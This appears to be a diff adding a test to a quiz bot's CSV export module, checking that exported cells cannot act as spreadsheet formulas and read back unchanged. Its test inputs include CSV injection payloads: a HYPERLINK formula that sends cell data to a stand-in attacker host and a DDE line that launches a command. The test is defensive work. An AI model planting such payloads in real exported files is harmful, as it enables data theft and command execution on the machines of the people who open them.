@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import re
 from dataclasses import replace
 
 import pytest
@@ -12,7 +14,7 @@ from bot.questions.exchange.csv_ import read_csv, write_csv
 from bot.questions.exchange.gift import read_gift
 from bot.questions.exchange.gift_out import write_gift
 from bot.questions.exchange.yaml_ import raw_item, write_yaml
-from bot.questions.model import Item, Kind, NumericAnswer, SourcePlace, Status
+from bot.questions.model import Item, Kind, NumericAnswer, Option, SourcePlace, Status
 from bot.questions.yaml_core import parse_yaml
 from tests.questions.exchange.making import any_item
 
@@ -40,6 +42,47 @@ def test_csv_holds_everything_but_excuses(item: Item) -> None:
     assert found.errors == ()
     assert [replace(one, place=HERE) for one in found.items] == [replace(item, lint_ok=())]
     assert bool(exported.losses) == bool(item.lint_ok)
+
+
+FORMULA = re.compile(r"[=+\-@\t\r＝＋－＠]")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "＝1+1",
+        "'=1",
+        "''@x",
+        "'quoted'",
+        "-",
+    ],
+)
+def test_no_cell_of_a_csv_is_a_formula_and_each_reads_back_as_it_was(words: str) -> None:
+    question = Item(
+        "optics.q01",
+        "optics",
+        Kind.SINGLE,
+        words,
+        HERE,
+        options=tuple(Option(f"{words} {n}", n == 1, words) for n in range(3)),
+        explanation=words,
+        starter=f"\t{words}",
+        author=words,
+        follow_ups=(words, words),
+        tags=(words,),
+    )
+    number = replace(
+        question, id="optics.q02", kind=Kind.NUMERIC, options=(), answer=NumericAnswer(-5, unit=words)
+    )
+    text = write_csv([question, number]).content.decode()
+    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
+    assert [cell for cell in cells if FORMULA.match(cell)] == ["-5"]
+    found = read_csv(text, "file")
+    assert [replace(each, place=HERE) for each in found.items] == [question, number]
 
 
 @pytest.mark.slow
